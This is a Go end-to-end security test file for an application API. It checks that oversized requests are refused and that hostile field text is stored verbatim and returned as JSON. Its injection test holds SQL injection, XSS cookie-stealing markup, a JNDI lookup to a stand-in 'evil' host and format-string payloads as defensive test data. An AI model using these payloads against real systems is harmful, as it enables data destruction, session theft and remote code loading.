package e2e

import (
	"bytes"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/guichet/guichet/platform/auth"
)

// oversizedRequests: a 1 MiB header is refused by the HTTP server (431) and a 2 MiB body by the
// gateway (413), with or without a Content-Length; the platform answers normally afterwards.
func oversizedRequests(t *testing.T, sp *securityPlatform, path string) {
	a := sp.api(t)
	alice := a.token(auth.Applicant, "alice", dinum)

	req, err := http.NewRequest(http.MethodGet, sp.base+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+alice)
	req.Header.Set("X-Padding", strings.Repeat("a", 1<<20))
	if r := do(t, req); r.Status != http.StatusRequestHeaderFieldsTooLarge && r.Status != http.StatusBadRequest {
		t.Errorf("1 MiB header: %d, want 431 or 400", r.Status)
	}

	big := `{"title": "` + strings.Repeat("x", 2<<20) + `"}`
	a.call(http.MethodPost, path, alice, big).problem(t, http.StatusRequestEntityTooLarge, "")
	// Chunked: no Content-Length announces the size, the gateway must count.
	req, err = http.NewRequest(http.MethodPost, sp.base+path, io.MultiReader(strings.NewReader(big)))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+alice)
	req.Header.Set("Content-Type", "application/json")
	if req.ContentLength != 0 {
		t.Fatal("the chunked request has a length")
	}
	do(t, req).problem(t, http.StatusRequestEntityTooLarge, "")
	// Just under the limit is read and judged on its content: a title over 200 characters.
	under := `{"title": "` + strings.Repeat("x", 1<<20-64) + `"}`
	a.call(http.MethodPost, path, alice, under).problem(t, http.StatusBadRequest, "application.title")

	a.call(http.MethodGet, path, alice, nil).must(t, http.StatusOK)
}

// injectionStrings: hostile text in an application's fields is data. It is stored and returned
// byte for byte (SQL quotes, markup, unicode controls, strings at their length limits), or refused
// with 400 naming the field when no text column may hold it (the NUL character).
func injectionStrings(t *testing.T, sp *securityPlatform, path string) {
	a := sp.api(t)
	alice := a.token(auth.Applicant, "alice", dinum)
	verbatim := map[string]string{
		"sql quotes":   `Robert'); DROP TABLE applications; -- "quoted" \ backslash`,
		"markup":       `<script>alert(document.cookie)</script><img src=x onerror=alert(1)>`,
		"template":     `{{.Secret}} ${jndi:ldap://evil/a} %s%n`,
		"unicode":      "Zażółć gęślą jaźń — 数据 — 🚀 — \u202eRTL override\u202c — e\u0301 — \ufeffBOM",
		"controls":     "line1\nline2\r\ttab\u0007bell",
		"title at 200": strings.Repeat("é", 200),
		"emoji at 200": strings.Repeat("🚀", 200),
	}
	for name, s := range verbatim {
		t.Run(name, func(t *testing.T) {
			title := s
			if len([]rune(title)) > 200 {
				title = string([]rune(title)[:200])
			}
			app := application(title)
			app["summary"] = s + strings.Repeat("s", 5000-len([]rune(s)))
			app["contact"] = map[string]any{"name": string([]rune(s + strings.Repeat("n", 200))[:200]), "email": "alice@example.org"}
			created := a.call(http.MethodPost, path, alice, app).must(t, http.StatusCreated)
			got := a.call(http.MethodGet, "/v1/"+created.str("name"), alice, nil).must(t, http.StatusOK)
			if got.str("title") != title {
				t.Errorf("title stored as %q, sent %q", got.str("title"), title)
			}
			if got.str("summary") != app["summary"] {
				t.Errorf("summary not returned verbatim")
			}
			if contact, _ := got.JSON["contact"].(map[string]any); contact["name"] != app["contact"].(map[string]any)["name"] {
				t.Errorf("contact name stored as %q", contact["name"])
			}
			if ct := got.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
				t.Errorf("content type %q: markup must never be served as HTML", ct)
			}
		})
	}
	t.Run("over the limits", func(t *testing.T) {
		a.call(http.MethodPost, path, alice, application(strings.Repeat("é", 201))).problem(t, http.StatusBadRequest, "application.title")
		app := application("Long summary")
		app["summary"] = strings.Repeat("s", 5001)
		a.call(http.MethodPost, path, alice, app).problem(t, http.StatusBadRequest, "application.summary")
	})
	t.Run("NUL character", func(t *testing.T) {
		before := sp.applicationCount(t)
		a.call(http.MethodPost, path, alice, application("NUL\u0000byte")).problem(t, http.StatusBadRequest, "application.title")
		app := application("NUL in the summary")
		app["summary"] = "a\u0000b"
		a.call(http.MethodPost, path, alice, app).problem(t, http.StatusBadRequest, "application.summary")
		if after := sp.applicationCount(t); after != before {
			t.Errorf("%d applications stored for refused bodies", after-before)
		}
	})
	t.Run("invalid UTF-8", func(t *testing.T) {
		body := bytes.Replace([]byte(`{"title": "XX"}`), []byte("XX"), []byte{0xff, 0xfe}, 1)
		a.call(http.MethodPost, path, alice, string(body)).problem(t, http.StatusBadRequest, "body")
	})
}
